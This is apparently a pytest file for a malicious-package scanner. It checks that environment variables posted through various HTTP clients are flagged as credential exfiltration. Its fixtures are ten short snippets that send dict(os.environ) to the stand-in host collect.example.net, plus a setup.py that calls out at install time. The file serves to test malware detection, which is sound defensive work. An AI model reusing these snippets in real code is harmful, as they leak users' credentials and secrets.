"""Rules 50: data sent through HTTP clients other than ``requests.post`` is data sent.

Before, the environment posted through an ``httpx.AsyncClient``, a ``requests.Session``
bound to a name (``s.post``) or an attribute (``self.session.post``), an
``http.client`` connection, a Socket.IO client, a Discord webhook object (``dhooks``) or the
HTTP libraries stealers favour for impersonating browsers (``curl_cffi``, ``tls_client``,
``cloudscraper``), or ``httplib2``, ``niquests``, ``grequests``, ``pycurl``, was no send at
all: a stealer that read credentials and posted them that way showed only the reading.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import sdist, wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"
URL = "'https://collect.example.net/u'"
ENV = "dict(os.environ)"

SENDS = {
    "requests session": f"import os, requests\ns = requests.Session()\ns.post({URL}, json={ENV})\n",
    "session attribute": (
        "import os, requests\nclass Reporter:\n    def __init__(self):\n"
        "        self.session = requests.Session()\n    def send(self):\n"
        f"        self.session.post({URL}, json={ENV})\nReporter().send()\n"
    ),
    "httpx async client": (
        "import os, asyncio, httpx\nasync def main():\n"
        "    async with httpx.AsyncClient() as client:\n"
        f"        await client.post({URL}, json={ENV})\nasyncio.run(main())\n"
    ),
    "curl_cffi": f"import os\nfrom curl_cffi import requests\nrequests.post({URL}, json={ENV})\n",
    "tls_client": (
        "import os, tls_client\ns = tls_client.Session(client_identifier='chrome_120')\n"
        f"s.post({URL}, json={ENV})\n"
    ),
    "cloudscraper": f"import os, cloudscraper\ncloudscraper.create_scraper().post({URL}, json={ENV})\n",
    "httplib2": (
        "import os, json, httplib2\n"
        f"httplib2.Http().request({URL}, 'POST', body=json.dumps({ENV}))\n"
    ),
    "http.client": (
        "import os, json, http.client\nc = http.client.HTTPSConnection('collect.example.net')\n"
        f"c.request('POST', '/u', json.dumps({ENV}))\n"
    ),
    "socket.io": (
        "import os, socketio\nsio = socketio.Client()\nsio.connect('https://collect.example.net')\n"
        f"sio.emit('d', {ENV})\n"
    ),
    "pycurl": (
        "import os, json, pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://collect.example.net/u')\n"
        f"c.setopt(c.POSTFIELDS, json.dumps({ENV}))\nc.perform()\n"
    ),
}


@pytest.mark.parametrize("case", sorted(SENDS))
def test_the_environment_sent_through_a_client_is_credential_exfiltration(case: str) -> None:
    rules, held = judge(wheel({"demo/__init__.py": SENDS[case]}), WHEEL)
    assert "credential-exfil" in rules
    assert held


def test_a_client_that_sends_what_its_caller_asks_is_not_held() -> None:
    client = (
        "import httpx\nclass Api:\n    def __init__(self, base):\n"
        "        self.base = base\n        self.session = httpx.Client()\n"
        "    def search(self, query):\n"
        "        return self.session.post(self.base + '/search', json={'q': query}).json()\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": client}), WHEEL)
    assert "credential-exfil" not in rules
    assert not held


def test_post_on_something_that_is_no_client_is_no_send() -> None:
    init = (
        "import os\nclass Board:\n    def post(self, note):\n        print(note)\n"
        f"board = Board()\nboard.post({ENV})\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "credential-exfil" not in rules
    assert not held


def test_a_stub_module_read_whole_still_leaves_a_package_without_code() -> None:
    """A small package's modules are all read now; a stub of a few lines among them
    (``def hello(): return "Hello"``) is still no code the package is for."""
    setup = (
        "import urllib.request\nfrom setuptools import setup\n"
        "urllib.request.urlopen('https://collect.example.net/i')\n"
        "setup(name='demo', version='1.0')\n"
    )
    files = {
        "setup.py": setup,
        "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        "demo/__init__.py": "",
        "demo/module.py": "def hello_world():\n    return 'Hello, world!'\n",
    }
    rules, _ = judge(sdist(files), "demo-1.0.tar.gz")
    assert "placeholder" in rules
